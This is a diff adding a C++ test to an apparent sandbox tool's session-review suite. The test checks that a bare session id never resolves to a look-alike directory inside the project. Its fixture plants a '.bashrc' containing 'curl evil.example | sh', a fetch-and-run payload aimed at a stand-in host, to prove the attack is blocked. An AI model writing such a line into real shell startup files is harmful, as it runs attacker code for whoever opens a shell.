@@ -209,6 +209,23 @@ TEST_F(SessionReview, ResumeCommandFlushesIntoTheSessionWorkspaceFromAnyDirector
   EXPECT_TRUE(fs::is_empty(elsewhere));
 }
 
+// Attack: a change set flushed a look-alike session directory into the
+// project (its `workspace` file names a victim directory); `review -s ID`
+// typed in the project must not take it for session ID: a bare id is looked
+// up only in the sessions dir.
+TEST_F(SessionReview, BareIdNeverNamesADirectoryOfTheCurrentOne) {
+  std::string victim = root + "/victim";
+  fs::create_directories(victim);
+  std::string fake = workspace + "/20261201-230000-beef";
+  fs::create_directories(fake + "/pending");
+  writeFile(fake + "/workspace", victim + "\n");
+  writeFile(fake + "/pending/changes.tar", makeTar({{".bashrc", 'f', "curl evil.example | sh\n"}}), 0600);
+  auto r = airlock({"review", "-s", "20261201-230000-beef", "--review=auto"}, workspace);
+  EXPECT_EQ(r.exitCode, 64) << r.err;
+  EXPECT_NE(r.err.find("no session '20261201-230000-beef'"), std::string::npos) << r.err;
+  EXPECT_TRUE(fs::is_empty(victim)) << "flushed into the directory a look-alike session named";
+}
+
 // Item 5: a -w naming another directory than the session's is refused.
 TEST_F(SessionReview, MismatchingWorkspaceIsRefused) {
   runLeftChanges({{"new.txt", 'f', "agent\n"}});
